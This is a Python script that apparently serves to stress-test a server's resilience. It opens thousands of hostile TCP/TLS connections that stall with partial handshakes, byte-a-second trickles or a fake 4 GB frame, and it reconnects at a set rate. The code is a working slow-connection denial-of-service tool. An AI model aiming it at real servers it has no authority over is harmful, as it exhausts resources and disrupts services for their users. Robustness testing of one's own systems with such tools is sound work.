# SPDX-License-Identifier: Apache-2.0
"""Peers that mean no good, thousands on one thread: each holds a connection as long as it is let,
and connects anew when it is thrown out, at most so many a second in all.

  half    TCP, the first bytes of a TLS hello, then nothing
  slow    TCP, then a byte of that hello a second
  claim   TLS, then a frame that says to have 4 GB, a byte a second of it
  silent  TLS, then nothing

    swarm.py HOST:PORT --count N [--kinds half,slow,...] [--from ADDRESS] [--rate N]

Prints a line with how many are connected whenever a second has passed, until standard input ends.
"""

import argparse
import asyncio
import collections
import contextlib
import os
import resource
import ssl
import struct
import sys

KINDS = ("half", "slow", "claim", "silent")
CLIENT_HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(32)


def any_server():
    """The hostile trust every server."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


class Swarm:
    def __init__(self, server, source, rate):
        self.host, port = server.rsplit(":", 1)
        self.port = int(port)
        self.source = (source, 0) if source else None
        self.turns = asyncio.Semaphore(0)
        self.rate = rate
        self.tls = any_server()
        self.connected = 0
        self.thrown_out = collections.Counter()

    async def one(self, kind):
        while True:
            await self.turns.acquire()
            with contextlib.suppress(OSError, asyncio.TimeoutError):
                await self.visit(kind)
            self.thrown_out[kind] += 1

    async def visit(self, kind):
        tls = self.tls if kind in ("claim", "silent") else None
        reader, writer = await asyncio.wait_for(asyncio.open_connection(
            self.host, self.port, ssl=tls, local_addr=self.source), 20)
        self.connected += 1
        try:
            if kind == "half":
                writer.write(CLIENT_HELLO)
            if kind == "claim":
                writer.write(struct.pack(">IB", 0xFFFFFFFF, 3))
            if kind in ("half", "silent"):
                await reader.read()
                return
            for at in range(1_000_000):
                writer.write(CLIENT_HELLO[at:at + 1] if kind == "slow" else b"x")
                await writer.drain()
                with contextlib.suppress(asyncio.TimeoutError):
                    if not await asyncio.wait_for(reader.read(4096), 1):
                        return
        finally:
            self.connected -= 1
            writer.transport.abort()

    async def pace(self):
        while True:
            for _ in range(max(1, self.rate // 20)):
                self.turns.release()
            await asyncio.sleep(0.05)

    async def tell(self):
        while True:
            print(self.connected, sum(self.thrown_out.values()), flush=True)
            await asyncio.sleep(1)


async def run(arguments):
    swarm = Swarm(arguments.server, arguments.source, arguments.rate)
    kinds = arguments.kinds.split(",")
    tasks = [asyncio.ensure_future(swarm.one(kinds[number % len(kinds)]))
             for number in range(arguments.count)]
    tasks += [asyncio.ensure_future(swarm.pace()), asyncio.ensure_future(swarm.tell())]
    loop = asyncio.get_running_loop()
    await loop.run_in_executor(None, sys.stdin.read)
    sys.stdout.flush()
    os._exit(0)  # thousands of connections need no orderly end


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("server", metavar="HOST:PORT")
    parser.add_argument("--count", type=int, default=100)
    parser.add_argument("--kinds", default=",".join(KINDS))
    parser.add_argument("--from", dest="source", default="127.0.0.66", help="own address")
    parser.add_argument("--rate", type=int, default=200, help="connections a second")
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(run(parser.parse_args()))


if __name__ == "__main__":
    main()
